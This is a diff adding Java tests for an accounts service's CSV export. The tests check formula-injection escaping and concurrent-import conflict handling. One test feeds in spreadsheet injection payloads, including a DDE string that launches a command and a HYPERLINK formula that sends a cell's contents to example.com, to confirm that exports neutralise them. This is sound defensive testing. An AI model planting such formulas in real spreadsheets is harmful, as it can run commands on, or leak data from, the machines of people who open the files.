@@ -1,18 +1,30 @@
 package dev.kontor.accounts;
 
 import static io.restassured.RestAssured.given;
+import static java.util.stream.Collectors.joining;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.groups.Tuple.tuple;
 
 import dev.kontor.accounts.testing.AccountsServiceTest;
 import dev.kontor.accounts.testing.Colleague;
 import dev.kontor.accounts.testing.GraphQL;
+import dev.kontor.accounts.testing.Rush;
+import dev.kontor.accounts.testing.Tables;
 import dev.kontor.kit.testing.TestTokens;
 import io.restassured.path.json.JsonPath;
+import jakarta.inject.Inject;
+import java.io.IOException;
+import java.io.StringReader;
+import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
 import java.util.Map;
 import java.util.UUID;
+import java.util.stream.IntStream;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVPrinter;
+import org.apache.commons.csv.CSVRecord;
+import org.junit.jupiter.api.RepeatedTest;
 import org.junit.jupiter.api.Test;
 
 /** Accounts from files and to files. */
@@ -20,6 +32,9 @@ import org.junit.jupiter.api.Test;
 class CsvTest {
 
     private static final String TOKEN = TestTokens.issue("importer", "accounts:read", "accounts:write");
+
+    @Inject
+    Tables tables;
 
     private final GraphQL graph = GraphQL.as("importer");
     private final Colleague colleague = new Colleague(graph);
@@ -107,6 +122,87 @@ class CsvTest {
                         .jsonPath()
                         .getString("stopped"))
                 .contains("UTF-8");
+    }
+
+    @Test
+    void noCellIsAFormulaAndWhatWasExportedIsImportedUnchanged() throws Exception {
+        String manager = colleague.manager("=subject-" + UUID.randomUUID());
+        List<String> names = List.of(
+                "=HYPERLINK(\"http://example.com/?\"&A1;\"Click\")",
+                "=cmd|'/c calc'!A1",
+                "+1",
+                "-1+1",
+                "@SUM(A1:A9)",
+                "＝1",
+                "'=kept",
+                "''-kept",
+                "'t Hooft, Ltd.",
+                "'",
+                "plain = text");
+        for (String name : names) {
+            colleague.create(Map.of("name", name, "tier", "KEY", "industry", "=" + industry, "managerId", manager));
+        }
+        // No request can have them at the beginning, but what can be in the table is written, too.
+        for (String hidden : List.of("\t", "\r")) {
+            String other = colleague.manager("hidden-" + UUID.randomUUID());
+            tables.execute("update account_manager set subject = '%s=' || subject where id = '%s'"
+                    .formatted(hidden, Tables.key(other)));
+            colleague.create(Map.of("name", "Managed", "tier", "KEY", "industry", "=" + industry, "managerId", other));
+        }
+
+        List<CSVRecord> rows = CSVFormat.RFC4180.parse(new StringReader(exported())).stream()
+                .filter(row -> row.get(0).equals("number") || row.get(4).equals("'=" + industry))
+                .toList();
+
+        assertThat(rows).hasSize(1 + names.size() + 2);
+        assertThat(rows).allSatisfy(row -> assertThat(row).noneMatch(cell -> cell.matches("(?s)[=+\\-@\t\r\n＝].*")));
+        assertThat(rows).extracting(row -> row.get(1)).contains("'t Hooft, Ltd.", "''=kept", "'+1");
+        JsonPath report = post(200, written(rows));
+        assertThat(report.getList("errors")).isEmpty();
+        assertThat(report.getInt("unchanged")).isEqualTo(names.size() + 2);
+        assertThat(report.getInt("updated")).isZero();
+    }
+
+    /** Rows as the file has them. */
+    private static String written(List<CSVRecord> rows) throws IOException {
+        StringWriter file = new StringWriter();
+        try (CSVPrinter printer = new CSVPrinter(file, CSVFormat.RFC4180)) {
+            printer.printRecords(rows);
+        }
+        return file.toString();
+    }
+
+    @RepeatedTest(4)
+    void ofFilesThatChangeTheSameAccountAtOnceOneDoes() throws Exception {
+        colleague.account("Rushed", industry);
+        List<String> lines = exported().lines().toList();
+        String row = lines.stream()
+                .filter(line -> line.contains(industry))
+                .findFirst()
+                .orElseThrow();
+
+        List<JsonPath> reports =
+                Rush.of(6, i -> post(200, lines.getFirst() + "\n" + row.replace("Rushed", "Rival " + i) + "\n"));
+
+        assertThat(reports.stream().filter(report -> report.getInt("updated") == 1))
+                .hasSize(1);
+        assertThat(reports.stream().filter(report -> report.getInt("failed") == 1))
+                .hasSize(5)
+                .allSatisfy(lost -> assertThat(lost.getString("errors[0].rule")).isEqualTo("CONFLICT"));
+    }
+
+    @Test
+    void aFileThatIsSentTwiceAtOnceIsImportedOnce() throws Exception {
+        String file = "name,tier,industry\n"
+                + IntStream.range(0, 20)
+                        .mapToObj(i -> "Row %d,GROWTH,%s\n".formatted(i, industry))
+                        .collect(joining());
+
+        List<JsonPath> reports = Rush.of(4, i -> post(200, file));
+
+        assertThat(reports)
+                .allSatisfy(report -> assertThat(report.getInt("failed")).isZero());
+        assertThat(names()).hasSize(20);
     }
 
     @Test
